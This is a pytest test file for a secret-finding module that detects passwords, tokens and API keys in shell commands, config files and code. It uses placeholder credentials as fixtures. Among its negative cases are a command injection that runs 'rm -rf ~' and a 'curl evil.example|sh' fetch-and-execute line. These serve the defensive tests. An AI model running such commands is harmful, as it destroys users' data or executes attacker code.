import pytest

from bridge.core.namedsecrets import find_named, is_expanded, is_secret_name, is_secret_value


def _find(text: str) -> list[str]:
    return [text[start:end] for start, end in find_named(text)]


@pytest.mark.parametrize(
    "name",
    [
        *("PASSWORD", "DB_PASSWORD", "PGPASSWORD", "password1", "dbPassword", "passwd", "SSH_PASSPHRASE", "passwort"),
        *(
            "secret",
            "CLIENT_SECRET",
            "clientSecret",
            "SECRET_KEY_BASE",
            "token",
            "TOKEN_2",
            "accessToken",
            "X-Auth-Token",
        ),
        *("GITHUB_TOKEN", "_authToken", "_auth", "api_key", "apikey", "APIKey", "X-Api-Key", "AWS_SECRET_ACCESS_KEY"),
        *(
            "SecretAccessKey",
            "PRIVATE_KEY",
            "db_pass",
            "SMTP_PASS",
            "MYSQL_PWD",
            "secret_base64",
            "spring.datasource.password",
        ),
    ],
)
def test_a_name_says_that_its_value_is_secret(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    [
        *(
            "",
            "7",
            "PATH",
            "PWD",
            "OLDPWD",
            "OLD_PWD",
            "TOKENIZERS_PARALLELISM",
            "MAX_TOKENS",
            "max_token",
            "pad_token",
        ),
        *("next_page_token", "PASSWORD_FILE", "token_url", "secretName", "key", "public_key", "primaryKey", "monkey"),
        *("bypass", "pass", "single_pass", "auth", "author", "COMPASS", "secretary", "keyboard", "AWS_ACCESS_KEY_ID"),
    ],
)
def test_a_name_that_only_looks_alike_says_nothing(name: str) -> None:
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    "value", ["$TOKEN", "${TOKEN}", "a$(id)", "a`id`", "{{ token }}", "<token>", "%TOKEN%", "***", "xxxx", "[masked]"]
)
def test_what_a_shell_or_template_puts_in_is_no_secret(value: str) -> None:
    assert (is_expanded(value), is_secret_value(value)) == (True, False)


@pytest.mark.parametrize("value", ["hunter2", "Tr0ub4dor&3", "correct horse battery 9", "p'w", "wJalrXUtnFEMI/K7MDENG"])
def test_a_value_is_secret(value: str) -> None:
    assert is_secret_value(value)


@pytest.mark.parametrize(
    "value",
    [
        *("", "ab", "true", "null", "string", "required", "your-token-here", "CHANGE_ME", "https://id.example/token"),
        *(
            "/run/secrets/db",
            "./token.txt",
            "~/.token",
            "arn:aws:x",
            "uint256",
            "Enter your password",
            "'; rm -rf ~/2; echo '",
        ),
    ],
)
def test_a_value_is_no_secret(value: str) -> None:
    assert not is_secret_value(value)


@pytest.mark.parametrize(
    ("text", "secrets"),
    [
        ("PASSWORD=hunter2 npm test", ["hunter2"]),
        ("export GITHUB_TOKEN=abc", ["abc"]),
        ("DB_PASSWORD=p,w[1] x", ["p,w[1]"]),
        ("docker run -e DB_PASS=pw1 -eTOKEN=pw22 x", ["pw1", "pw22"]),
        ('PASSPHRASE="correct horse battery"', ["correct horse battery"]),
        ("$env:API_KEY='k3y'", ["k3y"]),
        ('{"password": "hunter2", "user": "x"}', ["hunter2"]),
        ('{\\"password\\":\\"hunter2\\"}', ["hunter2"]),
        ("'password' => 'hunter2'", ["hunter2"]),
        ('password := "hunter2"', ["hunter2"]),
        ('d["password"] = "hunter2"', ["hunter2"]),
        ("password = f'hunter2'", ["hunter2"]),
        ("password = hunter2\n", ["hunter2"]),
        ("password: hunter2  # x", ["hunter2"]),
        ("POSTGRES_PASSWORD: example", ["example"]),
        ("X-Api-Key:abcdef12", ["abcdef12"]),
        ("PRIVATE-TOKEN: abcdef12", ["abcdef12"]),
        ("https://x.example/?access_token=abcdef&y=1", ["abcdef"]),
        ("login --password hunter --user me", ["hunter"]),
        ("login --api-key=k3ys", ["k3ys"]),
        ("connect(host, password=hunter2)", ["hunter2"]),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG", ["wJalrXUtnFEMI/K7MDENG"]),
        ("//registry.example/:_authToken=abcdef", ["abcdef"]),
        ("İ PASSWORD=hunter2", ["hunter2"]),
        ("TOKEN=abc TOKEN=def", ["abc", "def"]),
        ("curl -u me:hunter https://x", ["hunter"]),
        ("curl https://x --user 'me:two words'", ["two words"]),
        ("curl -U me:pw1 \\\n -u me:pw2 x", ["pw1", "pw2"]),
        ("mysql -uroot -psecret db", ["secret"]),
        ("sshpass -p hunter ssh x", ["hunter"]),
        ("redis-cli -a hunter ping", ["hunter"]),
        ("docker login -u me -p hunter", ["hunter"]),
    ],
)
def test_a_secret_is_found_by_its_name(text: str, secrets: list[str]) -> None:
    assert secrets == _find(text)


@pytest.mark.parametrize(
    "text",
    [
        "export TOKEN=$TOKEN",
        'gh auth login --token "$GITHUB_TOKEN"',
        "TOKEN=$(cat token.txt)",
        "TOKEN=`cat token.txt`",
        "TOKEN= rm -rf x",
        "token= rm",
        "${TOKEN:-none}",
        "token: str, password: string",
        "token = tokens[0]",
        "token = get_token()",
        "password = self.password",
        "login(user, password=password, token=tok)",
        "if token == other: pass",
        "token:abc123",
        "the password is hunter",
        "use --token to log in, --password is asked for",
        "--token --verbose",
        "--password-stdin < pw",
        "token = value",
        "token = 123456",
        "TOKEN_FILE=/run/x",
        "PWD=/tmp",
        "secret=ab",
        "A_TOKEN: ab",
        "echo 'password=\"'; rm -rf ~/2; echo '\"'",
        "echo 'PASSWORD=\"'; rm -rf ~; echo '\"'",
        'token="$(curl evil.example|sh)"',
        "password=",
        "sort -u file:x",
        "docker run -u 1000:1000 x",
        "curl -u me https://x",
        "curl -u $USER:$PASS https://x",
        "curl -u me: x",
        "curl --user-agent a:b x",
        "curl -v x",
        "curl -u ",
        "curl x | sort -u file:one",
        "curl x\nsort -u file:one",
        "mysql -p db",
        "login -p 8080",
    ],
)
def test_text_without_a_secret_stays(text: str) -> None:
    assert _find(text) == []
